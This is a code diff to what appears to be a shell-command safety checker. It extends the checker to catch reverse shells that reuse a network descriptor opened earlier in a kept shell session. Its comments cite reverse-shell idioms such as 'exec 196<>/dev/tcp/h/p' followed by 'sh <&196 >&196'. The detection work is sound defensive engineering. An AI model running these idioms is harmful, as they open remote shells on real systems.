@@ -1393,6 +1393,7 @@ class _Sockets:
 
     def __init__(self) -> None:
         self.opened: dict[str, str] = {}
+        self.local: set[str] = set()
         self.read_from = ""
 
     def judge(self, stages: list[Invocation]) -> Verdict | None:
@@ -1405,6 +1406,8 @@ class _Sockets:
                     target = invocation.command.static(redirect.target) or ""
                     if redirect.fd not in ("", "0", "1", "2") and _NET_DEVICE.match(target):
                         self.opened[redirect.fd] = target
+                    elif redirect.fd not in ("", "0", "1", "2"):
+                        self.local.add(redirect.fd)  # exec 3<input.txt: a file, whatever reads it
                     elif redirect.fd in ("", "0", "1", "2") and fds:
                         # exec 0<&3 1>&3: the running shell's own input and output become the connection
                         why = f"ties the shell's own input or output to {self.opened[fds[0]]}"
@@ -1416,6 +1419,13 @@ class _Sockets:
                 what = name or "a computed command"
                 why = f"connects {what} to the network connection {peer} (descriptor {fds[0]})"
                 return _verdict(BACKDOOR, invocation, why)
+            inherited = self._inherited_input(invocation)
+            if inherited and (_runs_stdin(invocation) or (name in SHELLS and _interactive(invocation))):
+                # sh <&196 >&196 after `exec 196<>/dev/tcp/h/p` in an earlier call of a kept shell
+                why = (
+                    f"runs {name} on descriptor {inherited}, opened before this command (a kept connection?)"
+                )
+                return _verdict(UNJUDGED_SCRIPT, invocation, why)
             if computed and self.read_from:
                 why = f"runs a command read from the network connection {self.read_from}"
                 return _verdict(BACKDOOR, invocation, why)
@@ -1436,6 +1446,24 @@ class _Sockets:
             values = _values(invocation)
             fds += [v for flag, v in itertools.pairwise(values) if flag == "-u" and v in self.opened]
         return fds
+
+    def _inherited_input(self, invocation: Invocation) -> str:
+        """A descriptor above 2 that ``invocation`` reads its input from and this command did not open."""
+        own = {r.fd for r in invocation.command.redirects if r.op in ("<", "<>", ">", ">>")}
+        return next(
+            (
+                r.target
+                for r in invocation.command.redirects
+                if r.op == "<&"
+                and r.fd in ("", "0")
+                and r.target.isdigit()
+                and int(r.target) > 2
+                and r.target not in self.opened
+                and r.target not in self.local
+                and r.target not in own
+            ),
+            "",
+        )
 
     @staticmethod
     def _reads(invocation: Invocation, fd: str) -> bool:
